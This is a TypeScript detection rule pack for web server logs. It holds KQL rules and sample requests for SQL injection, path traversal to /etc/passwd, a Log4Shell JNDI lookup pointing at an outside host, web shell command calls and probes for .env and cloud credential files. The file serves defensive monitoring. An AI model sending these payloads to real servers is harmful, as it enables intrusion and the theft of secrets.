import type { Pack } from "./pack.ts";

const request = (message: string, attrs: Record<string, unknown> = {}) => ({
  ...{ message, service: "nginx" },
  attrs: { client_ip: "203.0.113.7", ...attrs },
});

export const WEB: Pack = {
  id: "web",
  name: "Web servers",
  description: "Probes for holes, scanners, and requests that only attackers make.",
  expects: {
    sources: "access logs of web servers and proxies, with `status` as an attribute",
    kql: "isnotnull(status)",
  },
  rules: [
    {
      id: "sql-injection-probes",
      name: "SQL injection is tried",
      description:
        "One address puts pieces of SQL into requests. See whether any was answered with 200 and much data.",
      ...{ severity: "medium", attackTechnique: "T1190" },
      kql: `message contains "union select" or message contains "union+select" or message contains "union%20select" or message contains "' or '1'='1"`,
      ...{ threshold: 5, windowSec: 300, groupBy: ["sourceAddress"] },
      counts: request("GET /items?id=1%20union%20select%201,2 HTTP/1.1"),
      leaves: request("GET /unions?select=1 HTTP/1.1"),
    },
    {
      id: "path-traversal-probes",
      name: "Files outside of the site are asked for",
      description: "One address climbs out of the folder of the site. See whether any was answered with 200.",
      ...{ severity: "medium", attackTechnique: "T1083" },
      kql: 'message contains "../../" or message contains "..%2f" or message contains "%2e%2e/" or message contains "etc/passwd"',
      ...{ threshold: 5, windowSec: 300, groupBy: ["sourceAddress"] },
      counts: request("GET /static/../../../../etc/passwd HTTP/1.1"),
      leaves: request("GET /static/../logo.png HTTP/1.1"),
    },
    {
      id: "log4shell-lookup",
      name: "A lookup for Log4j arrived",
      description:
        "A server with an old Log4j that logs this runs foreign code. See which services log it, and their versions.",
      ...{ severity: "critical", attackTechnique: "T1190" },
      kql: 'message contains "${jndi:" or message contains "%24%7bjndi"',
      ...{ threshold: 1, windowSec: 60, groupBy: ["host"] },
      counts: request(`GET /?q=\${jndi:ldap://198.51.100.4/a} HTTP/1.1`),
      leaves: request("GET /docs/jndi HTTP/1.1"),
    },
    {
      id: "web-shell-request",
      name: "A web shell was asked for",
      description:
        "Requests of this form run commands on a server where somebody left such a file. See whether it is there.",
      ...{ severity: "high", attackTechnique: "T1505.003" },
      kql: 'message contains ".php?cmd=" or message contains ".jsp?cmd=" or message contains ".aspx?cmd=" or message contains "c99.php"',
      ...{ threshold: 1, windowSec: 60, groupBy: ["sourceAddress"] },
      counts: request("GET /uploads/a.php?cmd=id HTTP/1.1"),
      leaves: request("GET /uploads/a.php?page=2 HTTP/1.1"),
    },
    {
      id: "secret-file-requested",
      name: "Files with secrets are asked for",
      description:
        "One address looks for files that should not be there. If one was answered with 200, change the secrets.",
      ...{ severity: "medium", attackTechnique: "T1552.001" },
      kql: 'message contains "/.env" or message contains "/.git/config" or message contains "/.aws/credentials"',
      ...{ threshold: 3, windowSec: 300, groupBy: ["sourceAddress"] },
      counts: request("GET /.env HTTP/1.1"),
      leaves: request("GET /environment HTTP/1.1"),
    },
    {
      id: "scanner-user-agent",
      name: "A scanner calls itself by its name",
      description:
        "Somebody looks for holes with a tool as it comes. Often harmless, and a sign of what comes next.",
      ...{ severity: "low", attackTechnique: "T1595.002" },
      kql: 'message contains "sqlmap" or message contains "nikto" or message contains "nuclei" or message contains "masscan"',
      ...{ threshold: 20, windowSec: 300, groupBy: ["sourceAddress"] },
      counts: request('"GET / HTTP/1.1" 200 "sqlmap/1.8"'),
      leaves: request('"GET / HTTP/1.1" 200 "Mozilla/5.0"'),
    },
    {
      id: "denied-burst",
      name: "Many requests of one address are denied",
      description: "Passwords or addresses of pages are being guessed.",
      ...{ severity: "medium", attackTechnique: "T1110" },
      kql: "status == 401 or status == 403",
      ...{ threshold: 30, windowSec: 300, groupBy: ["sourceAddress"] },
      counts: request("POST /login", { status: 401 }),
      leaves: request("POST /login", { status: 200 }),
    },
    {
      id: "server-errors",
      name: "A service answers with many errors",
      description: "The service fails for its users. Its errors, grouped, are at /api/v1/log-errors.",
      ...{ severity: "high", attackTechnique: null },
      kql: "status >= 500",
      ...{ threshold: 50, windowSec: 300, groupBy: ["service"] },
      counts: request("GET /", { status: 502 }),
      leaves: request("GET /", { status: 404 }),
    },
  ],
};
